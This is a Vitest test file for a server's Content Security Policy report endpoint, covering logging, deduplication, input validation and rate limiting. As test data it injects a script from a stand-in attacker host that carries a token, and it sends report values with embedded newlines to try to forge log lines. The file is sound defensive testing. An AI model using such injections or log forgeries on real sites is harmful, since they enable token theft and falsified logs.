import { rmSync } from "node:fs";
import { afterAll, beforeAll, expect, test } from "vitest";
import { openPage } from "#tests/helpers/browser.ts";
import { readyDataDir } from "#tests/helpers/ready-data.ts";
import { type ServerProcess, startServer } from "#tests/helpers/server-process.ts";

let dataDir: string;
let server: ServerProcess;

beforeAll(async () => {
  dataDir = readyDataDir();
  server = await startServer({ env: { DATA_DIR: dataDir } });
});

afterAll(async () => {
  await server.stop();
  rmSync(dataDir, { recursive: true, force: true });
});

const told = () => server.output().match(/Browsers blocked .*/g) ?? [];
const send = (body: string, method = "POST") =>
  fetch(`${server.address}/policy-reports`, {
    method,
    headers: { "content-type": "application/csp-report" },
    ...(method === "POST" && { body }),
  });
const report = (fields: Record<string, unknown>) => JSON.stringify({ "csp-report": fields });

test("a browser that blocks a script reports it, and the operator reads one line without the visitor's address", async () => {
  const page = await openPage({
    baseUrl: server.address,
    expectedProblems: [/Content Security Policy|evil/],
  });
  await page.goto("/community/MirabelStone?of=friends");
  const answered = page.waitForResponse((response) => response.url().endsWith("/policy-reports"));
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.src = "https://evil.example/steal.js?token=abc";
    document.head.append(script);
  });
  expect((await answered).status()).toBe(204);
  await expect
    .poll(told)
    .toEqual([
      "Browsers blocked https://evil.example on /community/:username by the page's content security policy (script-src-elem)",
    ]);
});

test("a repeated report adds no second line, and one caused by a browser extension adds none", async () => {
  const again = {
    "document-uri": `${server.address}/values?q=kitsune`,
    "effective-directive": "img-src",
    "blocked-uri": "https://pictures.example/a/b.png",
  };
  for (let i = 0; i < 20; i++) expect((await send(report(again))).status).toBe(204);
  const extension = { ...again, "source-file": "chrome-extension", "blocked-uri": "https://other.example/" };
  expect((await send(report(extension))).status).toBe(204);
  const last = { ...again, "effective-directive": "style-src-attr", "blocked-uri": "inline" };
  expect((await send(report(last))).status).toBe(204);
  await expect.poll(() => told().at(-1)).toContain("style-src-attr");
  expect(told().filter((line) => line.includes("pictures.example"))).toHaveLength(1);
  expect(server.output()).not.toMatch(/other\.example|a\/b\.png|kitsune/);
});

test("bodies that are no report or too long are refused, and a flood is not read", async () => {
  expect((await send("", "GET")).status).toBe(405);
  for (const broken of ["", "[", "null", "{}", report({ "effective-directive": "<b>" })])
    expect((await send(broken)).status, broken).toBe(400);
  expect((await send("x".repeat(17 * 1024))).status).toBe(413);
  const before = told().length;
  const statuses = await Promise.all(
    Array.from({ length: 200 }, async (_, i) => {
      const forged = { "effective-directive": "img-src", "blocked-uri": `https://${i}.example/\nforged` };
      return (await send(report(forged))).status;
    }),
  );
  expect(statuses).toContain(429);
  expect(statuses.filter((status) => status === 204).length).toBeLessThanOrEqual(120);
  expect(told().length - before).toBeLessThanOrEqual(11);
  expect(server.output()).not.toMatch(/^forged/m);
});
